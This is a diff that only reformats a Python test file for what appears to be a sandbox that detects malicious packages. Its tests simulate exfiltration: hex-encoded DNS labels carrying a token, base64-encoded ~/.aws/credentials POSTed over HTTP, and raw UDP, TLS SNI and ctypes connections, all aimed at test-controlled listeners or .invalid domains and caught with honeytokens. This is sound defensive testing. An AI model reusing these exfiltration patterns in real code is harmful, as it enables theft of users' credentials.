@@ -42,7 +42,6 @@ from tests.fixtures.builders import Randomised, build_wheel, ctypes_connect_sour
 pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
 
 
-
 def _port() -> int:
     """A random port below the host's ephemeral range: no reply to one of the host's
     own connections can be addressed to it."""
@@ -109,8 +108,9 @@ class LeakCheck:
 def _can_check() -> str | None:
     if not shutil.which("iptables"):
         return "the host has no iptables"
-    proc = subprocess.run(["iptables", "-w", "-t", "raw", "-L", "OUTPUT", "-n"], capture_output=True,
-                          text=True)
+    proc = subprocess.run(
+        ["iptables", "-w", "-t", "raw", "-L", "OUTPUT", "-n"], capture_output=True, text=True
+    )
     return None if proc.returncode == 0 else f"cannot read the host's raw table: {proc.stderr.strip()[:100]}"
 
 
@@ -170,7 +170,7 @@ def test_token_exfiltrated_by_dns_hex_labels_is_proven(tmp_path: Path, leak_chec
             n = random.randrange(8, 64)
             labels.append(data[i:i + n])
             i += n
-        name = ".".join(labels + [{MARKER!r}, {r.domain().replace('.example', '.invalid')!r}])
+        name = ".".join(labels + [{MARKER!r}, {r.domain().replace(".example", ".invalid")!r}])
         try:
             socket.getaddrinfo(name, 443)
         except OSError:
@@ -223,8 +223,9 @@ def test_aws_credentials_posted_base64_over_http_is_proven(tmp_path: Path, leak_
     assert req.body_bytes > 100 and not req.body_truncated
     xs = [x for x in net.exfiltration if x.location == "~/.aws/credentials"]
     assert {x.canary for x in xs} == {"aws_access_key_id", "aws_secret_access_key"}
-    assert all(x.channel == "http" and x.destination == f"{host}:{LEAK_PORT}" and "base64" in x.encoding
-               for x in xs)
+    assert all(
+        x.channel == "http" and x.destination == f"{host}:{LEAK_PORT}" and "base64" in x.encoding for x in xs
+    )
     assert output_facts(report)["reply"] == "HTTP/1.1 200 OK"  # answered, so malware goes on sending
     assert [rd.location for rd in net.honeytoken_reads] == ["~/.aws/credentials"]
     assert {"PS010", "PS012", "PS001", "PS002"} <= {f.rule_id for f in report.findings}
@@ -235,7 +236,7 @@ def test_tls_sni_raw_udp_and_ctypes_connect_are_recorded(tmp_path: Path, leak_ch
     r = Randomised()
     sni = f"{MARKER}.{r.domain().replace('.example', '.invalid')}"
     udp_host, c_host = r.address(), r.address()
-    v6_host = f"2001:db8::{r.rng.randrange(1, 0xffff):x}"
+    v6_host = f"2001:db8::{r.rng.randrange(1, 0xFFFF):x}"
     payload = f"{MARKER}-{secrets.token_hex(4)}"
     src = textwrap.dedent(f"""\
         import json, os, socket, ssl, subprocess
@@ -386,8 +387,9 @@ def _bridge_gateway(client: Any) -> str:
     return str(next(c["Gateway"] for c in cfg if ":" not in c.get("Gateway", ":")))
 
 
-def test_control_the_check_catches_traffic_that_leaves_a_container(docker_client: Any,
-                                                                   sandbox_image: Any) -> None:
+def test_control_the_check_catches_traffic_that_leaves_a_container(
+    docker_client: Any, sandbox_image: Any
+) -> None:
     """A container on Docker's default bridge sends the same kind of traffic to a
     listener of this test on the bridge's gateway: the same check must count it."""
     why = _can_check()
@@ -417,16 +419,26 @@ def test_control_the_check_catches_traffic_that_leaves_a_container(docker_client
     server.start()
     check = LeakCheck(marker, port)
     check.install()
-    code = (f"import socket; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
-            f"u.sendto(b'{marker}', ('{gateway}', {port})); import time; time.sleep(0.2); "
-            f"t = socket.create_connection(('{gateway}', {port}), timeout=10); t.sendall(b'{marker}'); "
-            "t.close()")
+    code = (
+        f"import socket; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+        f"u.sendto(b'{marker}', ('{gateway}', {port})); import time; time.sleep(0.2); "
+        f"t = socket.create_connection(('{gateway}', {port}), timeout=10); t.sendall(b'{marker}'); "
+        "t.close()"
+    )
     name = f"pkgsandbox-control-{secrets.token_hex(4)}"
     try:
         docker_client.containers.run(
-            sandbox_image.tag, ["python3", "-c", code], name=name, network_mode="bridge", remove=True,
-            labels={LABEL: "control", LABEL_OWNER: owner_label(),
-                    LABEL_DEADLINE: str(int(time.time() + 120))})
+            sandbox_image.tag,
+            ["python3", "-c", code],
+            name=name,
+            network_mode="bridge",
+            remove=True,
+            labels={
+                LABEL: "control",
+                LABEL_OWNER: owner_label(),
+                LABEL_DEADLINE: str(int(time.time() + 120)),
+            },
+        )
         server.join(30)
         counts = check.counts()
     finally:
